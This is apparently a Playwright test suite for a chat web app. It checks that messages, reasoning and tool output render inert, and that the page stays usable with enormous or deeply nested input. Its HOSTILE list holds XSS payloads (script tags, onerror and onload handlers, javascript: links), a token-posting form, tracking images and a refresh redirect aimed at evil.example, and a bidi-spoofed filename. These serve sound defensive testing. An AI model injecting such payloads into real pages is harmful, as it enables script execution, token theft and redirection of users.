"""What models, tools and users write is shown, never run, and however long it is, the page can be used."""

import json
import re
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext, Dialog, Locator, Page, expect

from tests.browser.chatting import agent, is_at_rest, open_chat, send
from tests.browser.looking import ROOT, shot
from tests.browser.program import Server

Part = dict[str, object]

SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="window.hacked=1"><script>window.hacked=1</script></svg>'
)
BIDI = "\u202e\u2066\u2067\u202a\u200f"
HOSTILE = (
    "<script>window.hacked = 1</script>",
    '<img src="x" onerror="window.hacked = 1">',
    SVG,
    '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
    "[a link](javascript:window.hacked=1) and [another](data:text/html,<script>1</script>)",
    "[in disguise](JaVaScRiPt&colon;window.hacked=1) <javascript:window.hacked=1>",
    "![a picture](https://evil.example/pixel.png)",
    f"![a drawing](data:image/svg+xml,{SVG})",
    "![a drawing](https://evil.example/drawing.svg)",
    '<form action="https://evil.example"><input name="token"><button>Send</button></form>',
    '<a href="https://evil.example" onclick="window.hacked = 1">Click</a>',
    "<style>body { display: none }</style>",
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
    f"safe{BIDI}gpj.exe",
    "$$\\def\\a{\\a\\a}\\a$$ $\\href{javascript:window.hacked=1}{x}$",
    "**a _b `c [d](e ![f\n```\n| a | b\n|--\n> > -\n```",
    "javascript:window.hacked=1",
)
ALL = "\n\n".join(HOSTILE)
END = "That was all."
# A card takes what it knows of, and is given hostile words by every name that any of them knows.
FIELDS = re.compile(r"\b(?:args|result|fields|told|each|file|found)\.([a-z_]+)\b")
CARD = re.compile(r"^ {2}([a-z_]+): \w+Card,$", re.MULTILINE)
TOOLS = ROOT / "web" / "src" / "tools"

NOTHING_ELSE = "iframe, object, embed, form[action], script, style, base, meta, svg[onload], link"
# Of an opened chat; a card that is unfolded may add some hundreds of lines.
ELEMENTS_MAX = 20_000
CHARACTERS_MAX = 400_000


@pytest.fixture
def said(signed_in: Page) -> list[str]:
    """What is said in dialogs: of a page that never opens one, nothing."""
    heard: list[str] = []

    def hear(dialog: Dialog) -> None:
        heard.append(dialog.message)
        dialog.dismiss()

    signed_in.on("dialog", hear)
    return heard


def import_chat(page: Page, server: Server, *messages: tuple[str, list[Part]]) -> None:
    """Opens a chat in which this was said, and END at last."""
    open_import(page, server, *messages)
    expect(agent(page).last).to_contain_text(END)


def open_import(page: Page, server: Server, *messages: tuple[str, list[Part]]) -> None:
    history = [{"role": role, "content": parts} for role, parts in messages]
    body = {"format": "chatd-chat", "version": 1, "title": "Hostile", "messages": history}
    chat_id = server.ask("POST", "/chats/import", body)["id"]
    page.goto(f"{server.address}/chats/{chat_id}")


def text(words: str) -> Part:
    return {"type": "text", "text": words}


def unfold(page: Page) -> None:
    """Cards are folded into cards."""
    for _ in range(2):
        page.get_by_role("log").evaluate(
            "log => log.querySelectorAll('button[aria-expanded=false]').forEach(each => each.click())"
        )


def expect_harmless(page: Page, said: list[str]) -> None:
    main = page.get_by_role("main")
    assert page.evaluate("window.hacked") is None
    assert said == []
    assert main.locator(NOTHING_ELSE).evaluate_all("all => all.map(each => each.outerHTML)") == []
    assert main.locator("[onerror], [onclick], [onload]").count() == 0
    assert main.locator("img").count() == 0
    protocols = page.locator("a").evaluate_all("links => links.map(link => link.protocol)")
    assert set(protocols) <= {"http:", "https:", "mailto:"}
    lines = main.inner_text().splitlines()
    assert [line for line in lines if set(BIDI) & set(line)] == []
    expect(page.get_by_role("textbox", name="Message")).to_be_visible()


def test_what_a_user_writes_and_a_model_thinks_and_says_is_not_run(
    signed_in: Page, server: Server, said: list[str]
) -> None:
    thought: Part = {"type": "reasoning", "text": ALL}
    import_chat(
        signed_in,
        server,
        ("user", [text(ALL)]),
        ("assistant", [thought, text(ALL), text(END)]),
    )
    unfold(signed_in)

    expect_harmless(signed_in, said)
    shot(signed_in, "hostile-model")
    signed_in.get_by_role("log", name="Messages").press("Home")
    expect(signed_in.get_by_role("article", name="You")).to_be_in_viewport()
    expect_harmless(signed_in, said)
    shot(signed_in, "hostile-user")


def test_what_any_tool_is_given_and_brings_back_is_not_run(
    signed_in: Page, server: Server, said: list[str]
) -> None:
    words = "\n\n".join((*HOSTILE[:3], HOSTILE[4], f"safe{BIDI}gpj.exe"))
    given: Part = dict.fromkeys(fields_of_cards(), words)
    some = dict.fromkeys(("chat_id", "path", "diff", "title", "url", "content", "report", "question"), words)
    nested = given | {name: [some] for name in ("agents", "files", "questions", "results", "sources")}
    names = [*CARD.findall((TOOLS / "index.ts").read_text()), "evil__tool", "unheard_of"]
    assert len(names) > 25
    calls = [{"tool_call_id": f"call-{name}", "tool_name": name} for name in names]
    import_chat(
        signed_in,
        server,
        ("user", [text("Go.")]),
        ("assistant", [{"type": "tool-call", "args": nested, **call} for call in calls]),
        *(("tool", [{"type": "tool-result", "result": nested, **call}]) for call in calls),
        ("assistant", [text(END)]),
    )
    unfold(signed_in)

    expect(signed_in.get_by_role("group", name="evil__tool", exact=True)).to_be_visible()
    expect_harmless(signed_in, said)
    shot(signed_in, "hostile-tools")


def fields_of_cards() -> set[str]:
    sources = (path.read_text() for path in TOOLS.rglob("*.ts*"))
    found = {name for source in sources for name in FIELDS.findall(source)}
    assert {"output", "content", "diff", "url"} <= found
    return found


def test_what_is_said_live_is_not_run(signed_in: Page, server: Server, said: list[str]) -> None:
    lines = [line for each in HOSTILE for line in each.splitlines()]
    words = "\n".join(f"say {line}\nsay \nthink {line}" for line in lines)
    echo = f"call echo {json.dumps({'text': ALL})}"
    open_chat(signed_in, server, f"{words}\n{echo}\nnext\nsay {END}")

    expect(agent(signed_in).last).to_contain_text(END)
    unfold(signed_in)
    expect_harmless(signed_in, said)
    shot(signed_in, "hostile-live")


@pytest.mark.parametrize("sender", ["user", "tool"])
def test_a_drawing_with_a_script_is_offered_to_be_saved_and_never_opened(
    signed_in: Page, context: BrowserContext, server: Server, said: list[str], sender: str
) -> None:
    page = signed_in
    if sender == "user":
        drawing = {"name": "drawing.svg", "mimeType": "image/svg+xml", "buffer": SVG.encode()}
        page.get_by_label("Files to attach").set_input_files(drawing)  # type: ignore[arg-type]  # as it is documented
        expect(page.get_by_role("list", name="Attachments")).to_contain_text("drawing.svg")
        send(page, f"say {END}")
    else:
        open_chat(
            page, server, f"call attach {json.dumps({'name': 'drawing.svg', 'text': SVG})}\nnext\nsay {END}"
        )
    expect(agent(page).last).to_contain_text(END)
    expect_harmless(page, said)
    shot(page, f"hostile-drawing-{sender}")

    link = page.get_by_role("link", name="Download drawing.svg")
    with page.expect_download() as saved:
        link.click()
    assert Path(saved.value.path()).read_text() == SVG
    # Opened by itself it is a document of its own, which may neither run nor ask for anything.
    alone = context.new_page()
    alone.goto(str(link.get_attribute("href")))
    assert alone.evaluate("document.documentElement.localName") in ("svg", "html")
    assert alone.evaluate("window.hacked") is None


# The body of a request may have 256 KiB, and the script says it twice.
HALF = 120_000
HUGE = {
    "line": "x" * HALF,
    "brackets": "[" * HALF,
    "links": "[a](" * (HALF // 4),
    "quotes": ">" * HALF,
}


@pytest.mark.parametrize("kind", HUGE)
def test_an_endless_line_of_user_model_and_tool_is_shown_in_part_and_the_page_can_be_used(
    signed_in: Page, server: Server, kind: str
) -> None:
    page = signed_in
    words = HUGE[kind]
    open_chat(page, server, f"say {words}\ncall echo {json.dumps({'text': words})}\nnext\nsay {END}")

    expect(agent(page).last).to_contain_text(END)
    is_at_rest(page)
    unfold(page)
    expect_bounded(page)
    go_to_top(page)
    expect_bounded(page)
    send(page, "say Still here.")
    page.get_by_role("log", name="Messages").press("End")
    expect(agent(page).last).to_contain_text("Still here.")
    shot(page, f"huge-{kind}")


MANY = {
    "paragraphs": "a\n\n" * 60_000,
    "formulas in a line": "$x^2$ " * 40_000,
    "formulas alone": "$$x^2$$\n\n" * 20_000,
    "rows": "|a|b|\n|-|-|\n" + "|1|2|\n" * 40_000,
    "lists": "\n".join(f"{'  ' * depth}- a" for depth in range(600)),
    "tags": "<div>\n" * 40_000,
}


@pytest.mark.parametrize("kind", MANY)
def test_a_message_of_very_many_pieces_is_shown_in_part_and_the_page_can_be_used(
    signed_in: Page, server: Server, kind: str
) -> None:
    page = signed_in
    words = [text(MANY[kind])]
    open_import(page, server, ("user", words), ("assistant", words))

    more = agent(page).get_by_role("button", name="Show more")
    expect(more).to_be_attached()
    expect_bounded(page)
    more.click()
    expect_bounded(page)
    expect(go_to_top(page).get_by_role("button", name="Show more")).to_be_attached()
    expect_bounded(page)
    page.get_by_role("textbox", name="Message").fill("Still here.")
    shot(page, f"many-{kind}")


HOME_PRESSES_MAX = 10
HOME_MILLISECONDS = 2_000


def go_to_top(page: Page) -> Locator:
    """To the first message. While rows are measured for the first time, one key may stop short of it."""
    first = page.get_by_role("article", name="You")
    for _ in range(HOME_PRESSES_MAX - 1):
        page.get_by_role("log", name="Messages").press("Home")
        try:
            expect(first).to_be_in_viewport(timeout=HOME_MILLISECONDS)
        except AssertionError:
            continue
        return first
    page.get_by_role("log", name="Messages").press("Home")
    expect(first).to_be_in_viewport()
    return first


def expect_bounded(page: Page) -> None:
    """How much is drawn does not depend on how fast that is done; and what is drawn keeps the page busy."""
    elements, characters = page.get_by_role("main").evaluate(
        "main => [main.querySelectorAll('*').length, main.textContent.length]"
    )
    assert elements < ELEMENTS_MAX
    assert characters < CHARACTERS_MAX
